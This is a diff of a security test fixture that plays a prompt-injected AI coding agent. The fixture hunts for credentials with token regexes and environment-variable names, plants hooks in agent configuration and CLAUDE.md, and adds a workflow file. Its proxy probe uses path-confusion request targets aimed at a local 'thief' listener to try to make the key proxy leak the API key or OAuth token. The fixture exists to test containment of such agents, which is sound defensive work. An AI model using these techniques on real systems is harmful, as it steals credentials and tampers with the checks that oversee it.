@@ -1,9 +1,10 @@
 /**
  * A prompt-injected agent, as a CommonJS file the worker runs through AGENT_COMMAND
  * (test/security/hostile-agent.test.ts). Each attempt tries every way we know from an agent
- * to a credential (the repository's API key among them) or a write of its own, and records in HOSTILE_REPORT (a folder anyone may
- * write) what it could reach; each planted trap records there if it ever runs. Then it does
- * its task, so the attempt is otherwise a normal one:
+ * to a credential (the repository's API key and subscription token among them) or a write of
+ * its own, and records in HOSTILE_REPORT (a folder anyone may write) what it could reach; each
+ * planted trap records there if it ever runs. Then it does its task, so the attempt is
+ * otherwise a normal one:
  *   attempt 1 also adds a workflow file (the publish job must refuse the whole change);
  *   attempt 2 also commits agent configuration with a hook (`.claude/settings.json`, and in a
  *     subfolder and another case) and edits CLAUDE.md (the next attempt's agent must not see
@@ -18,7 +19,8 @@ const path = require('node:path');
 const cp = require('node:child_process');
 
 const REPORT = process.env.HOSTILE_REPORT;
-const TOKEN = /gh[pousr]_[A-Za-z0-9_]{16,}|eyJ[\w-]{8,}\.[\w-]{8,}\.[\w-]*|sk-ant-api\d\d-[\w-]{8,}/g;
+// The worker's placeholder for a subscription's token starts as the token does.
+const TOKEN = /gh[pousr]_[A-Za-z0-9_]{16,}|eyJ[\w-]{8,}\.[\w-]{8,}\.[\w-]*|sk-ant-api\d\d-[\w-]{8,}|sk-ant-oat\d\d-(?!agent-coordinator-)[\w-]{8,}/g;
 const NAMES = /^(ACTIONS_ID_TOKEN_REQUEST_TOKEN|ACTIONS_ID_TOKEN_REQUEST_URL|ACTIONS_RUNTIME_TOKEN|GITHUB_TOKEN|GH_TOKEN|GIT_CONFIG_VALUE_\d+|INPUT_TOKEN)=/;
 const marker = (name) => 'id -u >> ' + JSON.stringify(path.join(REPORT, 'ran-' + name));
 
@@ -100,26 +102,29 @@ const report = {
 secretsIn(Object.entries(process.env).map(([k, v]) => k + '=' + v).join('\0'), 'own environment', found);
 report.environsReadable = scanProcesses(found);
 
-// The key proxy takes the agent's requests to the API with the real key: a request target that
-// names another host (a listener of the agent's own) must not take the key there.
+// The key proxy takes the agent's requests to the API with the real key or token: a request
+// target that names another host (a listener of the agent's own) must not take them there.
 const PROXY_PROBE = [
   "const http = require('node:http');",
   "const heard = [];",
-  "const thief = http.createServer((req, res) => { heard.push(String(req.headers['x-api-key'])); res.end('{}'); });",
+  "const thief = http.createServer((req, res) => { heard.push(String(req.headers['x-api-key'] ?? req.headers.authorization)); res.end('{}'); });",
   "const proxy = new URL(process.env.ANTHROPIC_BASE_URL);",
   "const statuses = [];",
-  "const send = (paths) => {",
-  "  if (paths.length === 0) { process.stdout.write(JSON.stringify({ statuses, heard })); process.exit(0); }",
-  "  const headers = { 'x-api-key': process.env.ANTHROPIC_API_KEY };",
-  "  http.request({ host: proxy.hostname, port: proxy.port, method: 'POST', path: paths[0], headers }, (res) => {",
+  "const send = (requests) => {",
+  "  if (requests.length === 0) { process.stdout.write(JSON.stringify({ statuses, heard })); process.exit(0); }",
+  "  const [path, headers] = requests[0];",
+  "  http.request({ host: proxy.hostname, port: proxy.port, method: 'POST', path, headers }, (res) => {",
   "    statuses.push(res.statusCode);",
   "    res.resume();",
-  "    res.on('end', () => send(paths.slice(1)));",
-  "  }).on('error', (e) => { statuses.push(e.code); send(paths.slice(1)); }).end('{}');",
+  "    res.on('end', () => send(requests.slice(1)));",
+  "  }).on('error', (e) => { statuses.push(e.code); send(requests.slice(1)); }).end('{}');",
   "};",
   "thief.listen(0, '127.0.0.1', () => {",
   "  const host = '127.0.0.1:' + thief.address().port;",
-  "  send(['//' + host + '/v1/messages', '/' + String.fromCharCode(92) + host + '/v1/messages']);",
+  "  const paths = ['//' + host + '/v1/messages', '/' + String.fromCharCode(92) + host + '/v1/messages'];",
+  "  const key = { 'x-api-key': process.env.ANTHROPIC_API_KEY };",
+  "  const token = { authorization: 'Bearer ' + process.env.CLAUDE_CODE_OAUTH_TOKEN };",
+  "  send(paths.flatMap((path) => [[path, key], [path, token]]));",
   "});",
 ].join('\n');
 const probe = cp.spawnSync(process.execPath, ['-e', PROXY_PROBE], { encoding: 'utf8', timeout: 10000 });
